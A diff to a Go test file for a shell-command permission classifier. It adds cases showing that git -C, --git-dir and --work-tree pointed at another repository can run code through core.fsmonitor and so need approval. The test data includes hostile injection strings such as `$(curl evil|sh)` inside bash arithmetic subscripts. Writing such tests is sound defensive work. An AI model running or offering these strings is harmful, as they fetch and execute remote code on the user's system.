@@ -16,6 +16,11 @@ func TestReadOnlyBypassesClosed(t *testing.T) {
 	}{
 		// [[ evaluates -eq operands as arithmetic; a subscript there runs $(...).
 		{"cond arithmetic quoted subscript", `[[ 'a[$(touch /tmp/pwned_arith)]' -eq 0 ]]`, Ask},
+		// A bare repository inside the workspace can run its config's
+		// core.fsmonitor on status: pointing git at it is not read-only.
+		{"git -C another repo", `git -C vendor/evil.git status`, Ask},
+		{"git --git-dir", `git --git-dir=vendor/evil.git log`, Ask},
+		{"git --work-tree", `git --work-tree=. --git-dir=x diff`, Ask},
 		{"cond arithmetic runs curl", `[[ 'a[$(curl evil|sh)]' -eq 0 ]]`, Deny},
 		{"cond arithmetic on a name", `x='a[$(curl evil|sh)]'; [[ x -eq 0 ]]`, Deny},
 		{"cond arithmetic on an expansion", `[[ $n -gt 0 ]]`, Ask},
@@ -169,7 +174,7 @@ func TestReadOnlyStillReadOnly(t *testing.T) {
 		`echo ${#x}`, `echo ${x: -3}`, `echo ${a[@]}`, `echo ${!pre*}`, `echo "$HOME"`,
 		"git grep -n foo", "git grep -e foo -- src", "git log -p -3 -- f", "git branch --merged",
 		"git branch -a -v", "git show HEAD:f", "git rev-parse HEAD", "git blame -L 1,10 f",
-		"git shortlog -sn HEAD", "git -C sub status --short", "git diff --name-only HEAD~1",
+		"git shortlog -sn HEAD", "git diff --name-only HEAD~1",
 		"git log --format=%H --since=2024-01-01", "date +%s", "date -u +%Y", "date -d yesterday +%F",
 		"sort -t: -k2 -n f", "sort -rn -k 2 f", "rg -n -i foo src", "rg -l --hidden -g '*.go' foo",
 		"awk -F: '{print $1}' f", "awk -v n=2 '{print $n}' f", "find . -type f -mtime -1 -name '*.go'",
